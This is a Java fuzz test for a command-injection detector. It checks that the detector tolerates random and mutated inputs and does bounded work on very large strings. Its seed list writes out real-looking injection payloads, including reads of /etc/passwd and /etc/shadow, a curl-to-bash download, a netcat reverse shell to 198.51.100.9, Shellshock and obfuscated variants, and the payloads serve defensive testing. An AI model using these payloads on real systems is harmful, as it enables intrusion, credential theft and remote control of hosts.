package ai.traceable.tme.engine.detect.cmdi;

import static org.assertj.core.api.Assertions.assertThat;

import ai.traceable.tme.engine.detect.DetectorHarness;
import ai.traceable.tme.engine.inspect.Inspected;
import ai.traceable.tme.engine.inspect.Placement;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CmdiFuzzTest {
  private static final CmdiDetector DETECTOR = new CmdiDetector();

  private static final String[] SEEDS = {
    "127.0.0.1; cat /etc/passwd",
    "$(curl http://198.51.100.4/s.sh | bash)",
    "x`id`",
    ";cat${IFS}/etc/shadow",
    "8.8.4.4;c'a't /e't'c/p'a'sswd",
    ";/???/?at /???/??ss??",
    "() { :; }; /bin/cat /etc/passwd",
    "host|nc -e /bin/bash 198.51.100.9 9001",
    "__import__('os').system('id')",
    "eval($_POST['cmd'])",
    "require('child_process').exec('id')",
    "& powershell -nop -enc SQBFAFgA",
    "{ls,-la,/}",
    "Runtime.getRuntime().exec(\"id\")",
    "%x(id)",
    "a | type C:\\Windows\\win.ini"
  };

  @Test
  void randomTextNeverThrows() {
    DetectorHarness.fuzzRandomText(DETECTOR, 20240501L);
  }

  @Test
  void mutatedAttacksNeverThrow() {
    DetectorHarness.fuzzMutations(DETECTOR, 7L, SEEDS, Placement.QUERY);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "$(",
        "${",
        "{{",
        "\n",
        "`",
        ";id",
        "|",
        "&&",
        "{a,",
        "/???/",
        "$IFS",
        "c'a't ",
        "system('",
        "() {",
        "\\a",
        "%x(",
        "; cat /etc/passwd ",
        "eval('",
        "child_process",
        "a;",
        "x "
      })
  void megabyteInputsTakeBoundedWork(String unit) {
    String s = DetectorHarness.repeat(unit, 1 << 20);
    for (Placement p : new Placement[] {Placement.QUERY, Placement.JSON, Placement.PATH}) {
      long work = DETECTOR.inspectCounting(new Inspected(p, "v", s, s), (r, snippet) -> {});
      assertThat(work).as(unit).isLessThanOrEqualTo(64L * s.length());
    }
  }
}
